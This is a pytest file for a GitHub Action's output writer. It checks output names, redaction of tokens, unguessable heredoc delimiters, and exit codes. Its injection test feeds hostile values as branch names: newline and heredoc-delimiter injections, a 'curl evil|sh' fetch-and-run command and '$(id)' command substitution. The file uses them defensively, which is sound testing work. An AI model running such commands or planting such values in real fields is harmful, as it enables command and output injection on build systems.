"""The outputs are what the step says they are, and nobody else can write one."""

import re
from dataclasses import replace
from pathlib import Path

import pytest

from action import outputs
from action.result import Conclusion, FailOn, Result, exit_code
from core.runs import Verdict
from tests.fakes.runner_log import outputs as read

DONE = Result(
    conclusion=Conclusion.SUCCESS,
    sentence="Attempt 1 is proven.",
    verdict=Verdict.PROVEN,
    run_id="71d0c6e8a93f9a01",
    run_url="https://github.com/ada/shapes/actions/runs/7",
    pr_number=12,
    pr_url="https://github.com/ada/shapes/pull/12",
    branch_name="pullwright/area-71d0c6",
    head_sha="5d1c0a77b2e4",
    total_cost_usd=0.0123456,
    input_tokens=1200,
    output_tokens=300,
    cache_read_tokens=0,
    report_path="/tmp/reports/report.md",
)
KEY = "ghs_0123456789abcdefABCDEF0123456789abcd"


def test_all_are_written_and_what_is_not_known_is_empty(tmp_path: Path) -> None:
    path = tmp_path / "output"
    path.write_text("before=1\n", encoding="utf-8")
    outputs.write(DONE, path)
    said = read(path.read_text(encoding="utf-8"))
    assert said.pop("before") == "1"
    assert tuple(said) == outputs.NAMES
    assert (said["conclusion"], said["verdict"], said["pr_number"]) == ("success", "proven", "12")
    assert (said["total_cost_usd"], said["cache_read_tokens"], said["cache_write_tokens"]) == ("0.012346", "0", "")


def test_they_are_written_for_a_failure_too(tmp_path: Path) -> None:
    outputs.write(Result(Conclusion.TIMEOUT, "It took too long."), tmp_path / "output")
    said = read((tmp_path / "output").read_text(encoding="utf-8"))
    assert tuple(said) == outputs.NAMES
    assert said["conclusion"] == "timeout"
    assert set(said.values()) == {"timeout", ""}


@pytest.mark.parametrize(
    "branch",
    [
        "a\npr_number=13",
        "a\r\npr_number<<EOF\n13\nEOF",
        "a\nEOF\nverdict=proven",
        "a\u2028b\x85c\x0bpr_number=13",
        "\u3000;curl evil|sh",
        "$(id)`id`",
    ],
)
def test_a_value_is_one_line_and_makes_no_other_output(tmp_path: Path, branch: str) -> None:
    outputs.write(replace(DONE, branch_name=branch), tmp_path / "output")
    said = read((tmp_path / "output").read_text(encoding="utf-8"))
    assert tuple(said) == outputs.NAMES
    assert said["pr_number"] == "12"
    assert len(re.split(r"[\n\r\v\f\x85\u2028\u2029]", said["branch_name"])) == 1


def test_nobody_can_guess_a_delimiter(tmp_path: Path) -> None:
    for _ in range(2):
        outputs.write(DONE, tmp_path / "output")
    found = re.findall(r"<<(.+)", (tmp_path / "output").read_text(encoding="utf-8"))
    assert len(set(found)) == 2 * len(outputs.NAMES)


def test_no_output_holds_a_token(tmp_path: Path) -> None:
    leaking = replace(DONE, run_url=f"https://x-access-token:{KEY}@github.com/a/b", branch_name=f"a-{KEY[4:30]}")
    outputs.write(leaking, tmp_path / "output", (KEY,))
    said = (tmp_path / "output").read_text(encoding="utf-8")
    assert not [at for at in range(len(KEY) - 12) if KEY[at : at + 12] in said]


@pytest.mark.parametrize(
    ("result", "codes"),
    [
        (Result(Conclusion.SUCCESS, "", Verdict.PROVEN), (0, 0, 0)),
        (Result(Conclusion.SUCCESS, ""), (0, 0, 0)),  # a plan, a status: nothing to prove
        (Result(Conclusion.SUCCESS, "", Verdict.UNPROVEN), (0, 3, 0)),
        (Result(Conclusion.SUCCESS, "", Verdict.FAILED), (3, 3, 0)),
        (Result(Conclusion.FAILURE, "", Verdict.FAILED), (3, 3, 0)),
        (Result(Conclusion.FAILURE, ""), (1, 1, 0)),
        (Result(Conclusion.REFUSED, ""), (4, 4, 0)),
        (Result(Conclusion.SUCCESS, "", Verdict.REFUSED), (4, 4, 0)),
        (Result(Conclusion.TIMEOUT, ""), (124, 124, 0)),
        (Result(Conclusion.TIMEOUT, "", Verdict.UNPROVEN), (124, 124, 0)),
        (Result(Conclusion.CANCELLED, ""), (130, 130, 0)),
        (Result(Conclusion.SKIPPED, ""), (0, 0, 0)),
    ],
)
def test_the_exit_code_goes_by_the_verdict(result: Result, codes: tuple[int, int, int]) -> None:
    assert tuple(exit_code(result, fail_on) for fail_on in FailOn) == codes
